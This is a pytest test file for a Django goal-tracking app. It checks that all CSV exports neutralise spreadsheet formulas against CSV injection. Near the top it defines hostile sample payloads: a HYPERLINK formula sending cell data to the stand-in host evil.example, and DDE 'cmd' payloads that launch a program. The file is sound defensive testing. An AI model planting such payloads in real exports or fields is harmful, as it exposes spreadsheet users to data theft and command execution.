"""Every CSV Goalpost writes neutralises formulas (OWASP CSV injection): text planted through the
pages — goal texts in the editor, a name, a territory and a period in the admin — comes back from
every export as text (a leading apostrophe), never as a live cell."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from goalsapp.csv_safe import FORMULA_STARTS, PLAIN_NUMBER, safe_cell
from goalsapp.models import Employee, SheetState
from tests.page_helpers import editor, form_values, login, without_csrf

pytestmark = pytest.mark.django_db

GOAL_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
                 "+cmd|' /C calc'!A0"]
NAME_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
TERRITORY_FORMULA = "-2+3+cmd|' /C calc'!A0"
PERIOD_FORMULA = "=1+1 review period"


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-12.50", "-12.50"), ("+3", "+3"), ("Plain text", "Plain text"), (-5, -5), (None, None),
])
def test_each_formula_start_is_neutralised_and_numbers_stay_numbers(cell, written):
    # Tab and carriage return cannot be typed at the start of a field (Django strips them), so
    # they are checked here rather than through a page.
    assert safe_cell(cell) == written


def _admin_change(client, url, form_id, **changes):
    values = without_csrf(form_values(client.get(url), form_id=form_id))
    response = client.post(url, {**values, **changes, "_save": "Save"})
    assert response.status_code == 302, response.content.decode()[:2000]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live_formulas(cells) -> list[str]:
    return [cell for cell in cells
            if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)]


def test_formulas_planted_through_the_pages_come_back_as_text_from_every_export(
        client, sheet, employee, supervisor, hr, admin, period, advance,
        django_capture_on_commit_callbacks):
    login(client, admin)
    _admin_change(client, reverse("admin:goalsapp_employee_change", args=[employee.pk]),
                  "employee_form", full_name=NAME_FORMULA, territory=TERRITORY_FORMULA)
    _admin_change(client, reverse("admin:goalsapp_reviewperiod_change", args=[period.pk]),
                  "reviewperiod_form", name=PERIOD_FORMULA)
    login(client, supervisor)
    values = editor(client, sheet)
    values.update({"goals-0-text": GOAL_FORMULAS[0], "goals-1-text": GOAL_FORMULAS[1]})
    assert client.post(reverse("sheet_edit", args=[sheet.pk]), {**values, "save": ""}
                       ).status_code == 302
    with django_capture_on_commit_callbacks(execute=True):
        advance(sheet, SheetState.SIGNED)
    employee = Employee.objects.get(pk=employee.pk)

    exports = {}
    login(client, supervisor)
    person = client.get(reverse("person_dashboard", args=[employee.pk]),
                        {"export": "csv", "period": period.pk})
    exports["person"] = person.content.decode()
    exports["team"] = client.get(reverse("team_dashboard"),
                                 {"export": "csv", "period": period.pk}).content.decode()
    login(client, hr)
    exports["department"] = client.get(
        reverse("department_dashboard"),
        {"export": "csv", "period": period.pk, "group_by": "territory"}).content.decode()
    exports["workflow"] = client.get(reverse("workflow_overview"),
                                     {"export": "csv"}).content.decode()
    login(client, admin)
    response = client.post(reverse("archive_export"), {"period": period.pk})
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        exports["manifest"] = archive.read("manifest.csv").decode()
    exports["template"] = client.get(reverse("progress_import_template")).content.decode()

    cells = {name: _cells(text) for name, text in exports.items()}
    for name, found in cells.items():
        assert _live_formulas(found) == [], name
    assert {"'" + text for text in GOAL_FORMULAS} <= set(cells["person"])
    assert "'" + NAME_FORMULA in cells["team"]
    assert "'" + TERRITORY_FORMULA in cells["department"]
    assert "'" + PERIOD_FORMULA in cells["workflow"]
    assert {"'" + NAME_FORMULA, "'" + PERIOD_FORMULA} <= set(cells["manifest"])
